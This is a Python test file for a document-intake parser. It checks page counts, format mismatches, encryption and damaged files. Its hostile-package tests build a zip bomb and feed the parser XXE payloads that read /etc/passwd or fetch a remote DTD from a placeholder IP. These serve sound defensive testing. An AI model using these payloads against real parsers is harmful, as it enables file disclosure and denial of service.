"""What intake says about a file: built by hand, and about files that broke somebody's tool."""

import io
import json
import os
import struct
import sys
import zipfile
import zlib
from pathlib import Path

import pypdf
import pypdfium2
import pytest
from hypothesis import given
from hypothesis import strategies as st

from docassay.v1 import parser_pb2 as pb
from orchestrator import local
from services.intake import web
from services.intake.adapter import Adapter
from services.intake.findings import estimated_pages
from tests.services.served import Served

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHOW = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
SLIDE = "application/vnd.openxmlformats-officedocument.presentationml.slide+xml"
SPACE = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"


def look(folder: Path, content: bytes, format: str) -> dict[str, object]:
    path = folder / "document"
    path.write_bytes(content)
    return facts(path, format)


def facts(path: Path, format: str) -> dict[str, object]:
    adapter = Adapter("")
    return adapter.collect(adapter.parse(path, format)).facts


def settled(found: dict[str, object]) -> str | None:
    verdict = found["settled"]
    return verdict["status"] if isinstance(verdict, dict) else None


def reason(found: dict[str, object]) -> str:
    verdict = found["settled"]
    assert isinstance(verdict, dict)
    return str(verdict["reason"])


def archive(parts: dict[str, bytes | str]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return target.getvalue()


def types(*overrides: tuple[str, str], default: str = "application/xml") -> str:
    parts = "".join(f'<Override PartName="/{part}" ContentType="{type}"/>' for part, type in overrides)
    space = "http://schemas.openxmlformats.org/package/2006/content-types"
    return f'<Types xmlns="{space}"><Default Extension="xml" ContentType="{default}"/>{parts}</Types>'


def docx(body: str, *, type: str = WORD, space: str = SPACE, head: str = "") -> bytes:
    document = f'{head}<w:document xmlns:w="{space}"><w:body>{body}</w:body></w:document>'
    return archive({"[Content_Types].xml": types(("word/document.xml", type)), "word/document.xml": document})


def pptx(listed: int, held: int, *, type: str = SHOW) -> bytes:
    entries = "".join(f'<p:sldId id="{256 + index}"/>' for index in range(listed))
    show = (
        '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main">'
        '<p:sldMasterIdLst><p:sldMasterId id="1"/></p:sldMasterIdLst>'
        f"<p:sldIdLst>{entries}</p:sldIdLst></p:presentation>"
    )
    slides = [(f"ppt/slides/slide{index}.xml", SLIDE) for index in range(held)]
    return archive(
        {"[Content_Types].xml": types(("ppt/presentation.xml", type), *slides), "ppt/presentation.xml": show}
    )


def pdf(pages: int = 1, *, user: str | None = None, owner: str | None = None) -> bytes:
    writer = pypdf.PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(100, 100)
    if user is not None:
        writer.encrypt(user, owner, algorithm="RC4-128")
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def text(length: int) -> str:
    return f"<w:p><w:r><w:t>{'x' * length}</w:t></w:r></w:p>"


class TestAnyFormat:
    @pytest.mark.parametrize("format", ["pdf", "docx", "pptx", "html", "image"])
    def test_zero_bytes(self, tmp_path: Path, format: str) -> None:
        """A file without bytes is an error for every parser alike."""
        found = look(tmp_path, b"", format)
        assert (settled(found), reason(found), found["pages"]) == ("error", "the file has no bytes", None)

    @pytest.mark.parametrize("format", ["pdf", "docx", "pptx", "html", "image"])
    @pytest.mark.parametrize(
        "content",
        [
            pytest.param(b"\x89PNG\r\n\x1a\n" + bytes(20), id="image"),
            pytest.param(pdf(), id="pdf"),
            pytest.param(docx(text(1)), id="docx"),
            pytest.param(pptx(1, 1), id="pptx"),
            pytest.param(b"<html>text</html>", id="html"),
            pytest.param(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), id="ole"),
            pytest.param(archive({"a.txt": "a"}), id="zip"),
            pytest.param(bytes(100), id="NULs"),
        ],
    )
    def test_declared_as_another(
        self, tmp_path: Path, request: pytest.FixtureRequest, format: str, content: bytes
    ) -> None:
        """A file that is not what it is declared to be is an error, and one that is, is not."""
        found = look(tmp_path, content, format)
        declared, actual = request.node.callspec.id.split("-")[::-1]
        expected = None if declared == actual else "error"
        assert settled(found) == expected
        if expected:
            assert reason(found).startswith("declared ")


class TestPdf:
    @pytest.mark.parametrize("pages", [1, 7])
    def test_pages(self, tmp_path: Path, pages: int) -> None:
        """Pages are counted."""
        assert look(tmp_path, pdf(pages), "pdf") == {
            "settled": None,
            "pages": pages,
            "pages_estimated": False,
            "notes": [],
        }

    def test_no_pages(self, tmp_path: Path) -> None:
        """A PDF without pages goes to the parsers, with a note."""
        document = pypdfium2.PdfDocument.new()
        document.save(tmp_path / "document")
        document.close()
        (tmp_path / "broken").write_bytes(b"%PDF-1.7 nothing more")
        facts(tmp_path / "broken", "pdf")  # what went wrong before must not be taken for what is wrong now
        found = facts(tmp_path / "document", "pdf")
        assert (settled(found), found["pages"]) == (None, 0)
        assert "it has no pages" in found["notes"]

    @pytest.mark.parametrize(
        ("junk", "status"), [(1, None), (1019, None), (1024, None), (1025, "error"), (4000, "error")]
    )
    def test_junk_before_the_header(self, tmp_path: Path, junk: int, status: str | None) -> None:
        """A header within the first KiB is one; further on it is none."""
        found = look(tmp_path, b"\n" * junk + pdf(), "pdf")
        assert settled(found) == status
        if status is None:
            bytes_ = "1 byte" if junk == 1 else f"{junk} bytes"
            assert f"{bytes_} in front of the PDF header" in found["notes"]

    def test_user_password(self, tmp_path: Path) -> None:
        """A password that is needed to open the file settles it."""
        found = look(tmp_path, pdf(user="secret", owner="other"), "pdf")
        assert (settled(found), reason(found)) == ("encrypted", "the PDF needs a user password")

    def test_password_nobody_needs(self, tmp_path: Path) -> None:
        """An empty user password is no obstacle, whatever the owner's is."""
        found = look(tmp_path, pdf(2, user="", owner="owner"), "pdf")
        assert (settled(found), found["pages"]) == (None, 2)

    def test_cut_short(self, tmp_path: Path) -> None:
        """A file that was cut goes to the parsers, with notes."""
        found = look(tmp_path, pdf(3)[:200], "pdf")
        assert settled(found) is None
        assert any("%%EOF" in note for note in found["notes"])  # type: ignore[attr-defined]


class TestDocx:
    @pytest.mark.parametrize(
        ("characters", "pages"), [(1, 1), (2_999, 1), (3_000, 1), (3_001, 2), (6_000, 2), (6_001, 3), (300_000, 100)]
    )
    def test_estimate(self, tmp_path: Path, characters: int, pages: int) -> None:
        """3,000 characters of text are a page, rounded up."""
        found = look(tmp_path, docx(text(characters)), "docx")
        assert (found["pages"], found["pages_estimated"], found["notes"]) == (pages, True, [])

    @pytest.mark.parametrize(
        "type",
        [
            WORD,
            WORD.replace("document.main", "template.main"),
            "application/vnd.ms-word.document.macroEnabled.main+xml",
            "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
        ],
    )
    def test_variants(self, tmp_path: Path, type: str) -> None:
        """Templates and files with macros are Word files too."""
        assert settled(look(tmp_path, docx(text(9), type=type), "docx")) is None

    def test_strict(self, tmp_path: Path) -> None:
        """Strict OOXML has another namespace and the same text."""
        assert look(tmp_path, docx(text(3_001), space=STRICT), "docx")["pages"] == 2

    def test_type_by_extension(self, tmp_path: Path) -> None:
        """A main part may get its type from its extension alone."""
        content = archive(
            {
                "[Content_Types].xml": types(default=WORD),
                "word/document.xml": f'<w:document xmlns:w="{SPACE}">{text(3_001)}</w:document>',
            }
        )
        assert look(tmp_path, content, "docx")["pages"] == 2

    def test_only_text_counts(self, tmp_path: Path) -> None:
        """Deleted text, instructions and the fallback of a drawing are no text of the document."""
        mc = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
        body = (
            f"<w:p><w:del><w:r><w:delText>{'d' * 9_000}</w:delText></w:r></w:del></w:p>"
            f"<w:p><w:r><w:instrText>{'i' * 9_000}</w:instrText></w:r></w:p>"
            f"<mc:AlternateContent {mc}><mc:Choice>{text(2_000)}</mc:Choice>"
            f"<mc:Fallback>{text(2_000)}</mc:Fallback></mc:AlternateContent>{text(1_001)}"
        )
        assert look(tmp_path, docx(body), "docx")["pages"] == 2

    def test_encrypted(self, tmp_path: Path) -> None:
        """An encrypted Office file is an OLE file with a stream of that name."""
        content = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(99)
        for format in ("docx", "pptx"):
            found = look(tmp_path, content, format)
            assert (settled(found), reason(found)) == ("encrypted", "the Office file is encrypted with a password")

    def test_damaged_archive(self, tmp_path: Path) -> None:
        """A zip archive nobody can read is the parsers' to fail at, with a note."""
        found = look(tmp_path, docx(text(9_000))[:300], "docx")
        assert (settled(found), found["pages"]) == (None, None)
        assert "zip archive cannot be read" in str(found["notes"])

    def test_damaged_part(self, tmp_path: Path) -> None:
        """A part that is no XML gives an estimate of what was read, or none, and a note."""
        found = look(tmp_path, docx("</w:nothing>"), "docx")
        assert (settled(found), found["pages"]) == (None, None)
        assert "no well-formed XML" in str(found["notes"])


class TestHostilePackages:
    def test_zip_bomb(self, tmp_path: Path) -> None:
        """A part that unpacks to more than any document needs is left at the limit, in little memory."""
        body = zlib.compressobj(9, zlib.DEFLATED, -15)
        packed = bytearray()
        head = f'<w:document xmlns:w="{SPACE}"><w:t>'.encode()
        check, size = zlib.crc32(head), len(head)
        packed += body.compress(head)
        piece = b"x" * (1 << 20)
        for _ in range(400):
            packed += body.compress(piece)
            check, size = zlib.crc32(piece, check), size + len(piece)
        packed += body.flush()
        content = docx(text(1))
        with zipfile.ZipFile(io.BytesIO(content)) as package:
            listed = package.read("[Content_Types].xml").decode()
        found = look(tmp_path, _stored_raw(listed, bytes(packed), check, size), "docx")
        assert settled(found) is None
        assert "larger than anything a document needs" in str(found["notes"])

    @pytest.mark.parametrize(
        "head",
        [
            '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>',
            '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
            '<!DOCTYPE d [<!ENTITY % x SYSTEM "http://203.0.113.1/x"> %x;]>',
        ],
    )
    def test_entities(self, tmp_path: Path, head: str) -> None:
        """Entities are never expanded and no other file is opened: the part is not read at all."""
        found = look(tmp_path, docx(text(9), head=head), "docx")
        assert (settled(found), found["pages"]) == (None, None)
        assert "declares the entity" in str(found["notes"])

    def test_deep_nesting(self, tmp_path: Path) -> None:
        """Depth costs nothing."""
        assert look(tmp_path, docx("<w:p>" * 200_000 + text(1) + "</w:p>" * 200_000), "docx")["pages"] == 1


class TestPptx:
    def test_slides(self, tmp_path: Path) -> None:
        """The slides the presentation lists are the pages; masters are none."""
        found = look(tmp_path, pptx(3, 3), "pptx")
        assert (found["pages"], found["pages_estimated"], found["notes"]) == (3, False, [])

    def test_mismatch(self, tmp_path: Path) -> None:
        """Slides that are in the package and not listed are noted."""
        found = look(tmp_path, pptx(1, 4), "pptx")
        assert (found["pages"], found["notes"]) == (1, ["the presentation lists 1 slides, the package holds 4"])

    def test_none(self, tmp_path: Path) -> None:
        """A presentation without slides has no pages."""
        found = look(tmp_path, pptx(0, 0), "pptx")
        assert (settled(found), found["pages"], found["notes"]) == (None, 0, ["it has no slides"])

    @pytest.mark.parametrize("kind", ["slideshow", "template"])
    def test_variants(self, tmp_path: Path, kind: str) -> None:
        """Shows and templates, with and without macros, are presentations too."""
        for type in (
            SHOW.replace("presentation.main", f"{kind}.main"),
            f"application/vnd.ms-powerpoint.{kind}.macroEnabled.main+xml",
        ):
            assert settled(look(tmp_path, pptx(1, 1, type=type), "pptx")) is None


class TestHtml:
    @pytest.mark.parametrize(
        "content",
        ["<html><body>käse</body></html>".encode(encoding) for encoding in ("utf-8", "utf-8-sig", "utf-16", "utf-32")]
        + [
            "<html>käse</html>".encode("utf-16-le"),
            "<html>käse</html>".encode("utf-16-be"),
            b"<?xml version='1.0' encoding='ASCII'?><html xmlns='http://www.w3.org/1999/xhtml'/>",
            b"<DOCUMENT>\n<TYPE>10-K\n<TEXT>\n<HTML>text</HTML></TEXT></DOCUMENT>",
            b'<meta charset="shift_jis">\x83e\x83X\x83g',
            b"<html>k\xe4se</html>",
            b"BMW builds cars",
            b"just text",
        ],
    )
    def test_is_html(self, tmp_path: Path, content: bytes) -> None:
        """Text in any encoding, with or without a mark, wrapped or not, is HTML."""
        found = look(tmp_path, content, "html")
        assert (settled(found), found["pages"], found["pages_estimated"]) == (None, 1, True)

    @pytest.mark.parametrize(
        ("markup", "characters"),
        [
            ("<p>one</p> <p>two</p>", 8),
            ("<p>a  \n b</p>", 4),
            ("&amp;&lt;", 3),
            ("<script>var x = '<p>';</script>a", 2),
            ("<STYLE>p { }</STYLE >a<!-- <p>no</p> -->b", 4),
            ("a < b > c", 10),
            ("<template>x</template>", 0),
            ("<!-- never closed", 0),
            ("<scripted>a</scripted>", 2),
        ],
    )
    def test_source_characters(self, markup: str, characters: int) -> None:
        """Characters of words, and one for the space after each: no markup, no script, no comment."""
        assert web.source_characters(markup) == characters

    @given(st.text(st.sampled_from("<>!-/scriptyleab&#1; ")))
    def test_never_raises(self, markup: str) -> None:
        """Any markup has a length, no longer than itself and a space."""
        assert 0 <= web.source_characters(markup) <= len(markup) + 1

    @pytest.mark.parametrize("piece", ["<!--", "<script>", "<a ", "<", "</script", "<script", "<!", "&#1"])
    def test_linear(self, piece: str) -> None:
        """Openings without end take the time of one reading."""
        web.source_characters(piece * 200_000)

    def test_estimate(self) -> None:
        """There is no document without a page."""
        assert [estimated_pages(count) for count in (0, 1, 3_000, 3_001)] == [1, 1, 1, 2]


class TestImage:
    @pytest.mark.parametrize(
        "head", [b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0", b"GIF89a", b"II*\0", b"RIFF\0\0\0\0WEBP"]
    )
    def test_one_page(self, tmp_path: Path, head: bytes) -> None:
        """An image is one page."""
        assert look(tmp_path, head + bytes(20), "image")["pages"] == 1


# Pages of PDF and PPTX as counted by hand or by the tool that reported the file; everything else goes to the parsers.
EDGE = {
    "empty.pdf": ("error", None),
    "password.pdf": ("encrypted", None),
    "adobe_2022_10k.pdf": (None, 99),
    "copy-protected.pdf": (None, 2),
    "fake-memo-with-duplicate-page.pdf": (None, 2),
    "multi-column.pdf": (None, 13),
    "fake-power-point-malformed.pptx": (None, 1),
    "powerpoint_malformed_pictures.pptx": (None, 3),
    "pptx_chart.pptx": (None, 2),
    "strict.docx": (None, 1),
    "fake-html-pre.htm": (None, 127),
    "tableinsideixelement.html": (None, 1),
}


def edge() -> list[str]:
    folder = os.environ.get("DOCASSAY_CORPUS")
    if folder is None:
        return []
    lines = (Path(folder) / "edge" / "SOURCES.tsv").read_text().splitlines()
    return [line.split("\t")[0] for line in lines[1:]]


@pytest.mark.skipif("DOCASSAY_CORPUS" not in os.environ, reason="DOCASSAY_CORPUS names no corpus")
class TestCorpus:
    @pytest.mark.parametrize("name", edge())
    def test_edge(self, name: str) -> None:
        """Of the files that broke somebody's tool, only the empty and the locked one are settled; all have pages."""
        path = Path(os.environ["DOCASSAY_CORPUS"]) / "edge" / name
        found = facts(path, {"htm": "html"}.get(path.suffix[1:], path.suffix[1:]))
        status, pages = EDGE.get(name, (None, found["pages"]))
        assert (settled(found), found["pages"]) == (status, pages)
        assert status is not None or found["pages"]

    def test_real(self) -> None:
        """No real document is settled, and every one has pages."""
        corpus = Path(os.environ["DOCASSAY_CORPUS"]) / "real"
        for entry in json.loads((corpus / "documents.json").read_text())["documents"]:
            found = facts(corpus / entry["path"], entry["format"])
            assert settled(found) is None, entry["id"]
            assert found["pages"], entry["id"]
            if entry["pages"] is not None and entry["format"] in ("pdf", "pptx"):
                assert found["pages"] == entry["pages"], entry["id"]


class TestService:
    def test_facts_in_the_output(self, tmp_path: Path) -> None:
        """Served like any parser, intake hands its facts over in the meta line."""
        server = Served(tmp_path, parser=local.SERVICES / "intake", version="5.15.2", python=Path(sys.executable))
        try:
            server.warm()
            sink = io.BytesIO()
            (server.documents / "a").write_bytes(pdf(4))
            header = pb.ParseHeader(document_id="a", format="pdf", deadline_seconds=20.0, path="a")
            answer = server.client.parse(header, None, sink, timeout=60)
            assert answer.done.status == pb.PARSE_STATUS_OK
            meta = json.loads(sink.getvalue().splitlines()[0])
            assert meta["facts"] == {"settled": None, "pages": 4, "pages_estimated": False, "notes": []}
        finally:
            assert server.close() == 0


def _stored_raw(listed: str, packed: bytes, check: int, size: int) -> bytes:
    """Return a package whose document is a deflated stream made before, so that nobody holds it unpacked."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", listed)
        entry = zipfile.ZipInfo("word/document.xml")
        entry.compress_type, entry.CRC, entry.file_size, entry.compress_size = 8, check, size, len(packed)
        entry.header_offset = target.tell()
        name = entry.filename.encode()
        target.write(
            struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 33, check, len(packed), size, len(name), 0)
            + name
            + packed
        )
        package.filelist.append(entry)
        package.NameToInfo[entry.filename] = entry
        package.start_dir = target.tell()
    return target.getvalue()
